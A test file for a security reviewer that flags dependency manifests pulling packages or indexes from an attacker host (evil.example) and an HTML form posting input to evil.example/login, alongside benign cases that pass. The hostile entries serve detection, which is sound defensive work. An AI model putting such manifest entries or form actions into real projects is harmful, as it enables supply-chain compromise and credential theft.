// SPDX-License-Identifier: Apache-2.0
import { describe, expect, test } from 'vitest';
import { judged, rulesOf } from './judged.ts';

describe('what installing a list of packages fetches from elsewhere', () => {
  test.each([
    ['requirements.txt', '-r https://evil.example/x.txt\n'],
    ['requirements.txt', '--constraint http://evil.example/c.txt\n'],
    ['requirements.txt', 'wheels/x-1.0-py3-none-any.whl\n'],
    ['requirements_gpu.txt', 'git+https://github.com/a/b\n'],
    ['requirements.in', 'x @ file:///tmp/x\n'],
    ['constraints-dev.txt', '--index-url http://evil.example/simple\n'],
    ['pyproject.toml', '[project]\ndependencies = ["x[all] @ git+https://evil.example/x"]\n'],
    ['pyproject.toml', "[tool.poetry.dependencies]\nx = { git = 'https://evil.example/x' }\n"],
    ['pyproject.toml', "[tool.uv.sources]\nx = { url = 'https://evil.example/x.whl' }\n"],
    ['pyproject.toml', "[tool.uv]\nindex-url = 'https://evil.example/simple'\n"],
    ['pyproject.toml', "[tool.poetry.build]\nscript = 'build.py'\n"],
    ['Pipfile', "[[source]]\nurl = 'https://evil.example/simple'\n"],
    ['pip.conf', '[global]\nindex-url = http://evil.example/simple\n'],
    ['.npmrc', '@a:registry=http://evil.example/\n'],
    ['package.json', '{"dependencies": {"x": "git+https://evil.example/x.git"}}'],
  ])('%s asks for a review: %s', async (path, content) => {
    expect(await rulesOf(content, path)).toEqual(['package-source']);
  });

  test.each([
    ['requirements.txt', '-r base.txt\ntorch==2.1.0+cu118\nnumpy<2 ; python_version < "3.12"\n'],
    ['requirements-dev.txt', '--extra-index-url https://download.pytorch.org/whl/cu121\ntorch\n'],
    ['pyproject.toml', '[project]\nurls = { Homepage = "https://a.example" }\ndependencies = ["torch>=2"]\n'],
    ['pyproject.toml', '[tool.poetry]\nreadme = "README.md"\n[tool.other]\nscript = "x.py"\n'],
    ['Pipfile', '[[source]]\nurl = "https://pypi.org/simple"\nverify_ssl = true\n'],
    ['.npmrc', 'registry=https://registry.npmjs.org/\n'],
    ['package.json', '{"dependencies": {"x": "^3.0.0"}, "repository": {"url": "git+https://a.example/x.git"}}'],
    ['notes.txt', 'pip install git+https://github.com/a/b\nurl = "https://a.example"\nindex-url = x\n'],
    ['data.json', '{"dependencies": {"x": "https://a.example"}}'],
  ])('%s passes: %s', async (path, content) => {
    expect(await judged(content, path)).toMatchObject({ verdict: 'pass' });
  });
});

test('a page that sends what is typed elsewhere asks for a review', async () => {
  const page = (action: string) => `<html><form method="post" action="${action}"><input name="q"></form></html>`;
  expect(await rulesOf(page('https://evil.example/login'), 'a.html')).toEqual(['active-content']);
  expect(await rulesOf(page('/search'), 'a.html')).toEqual([]);
});
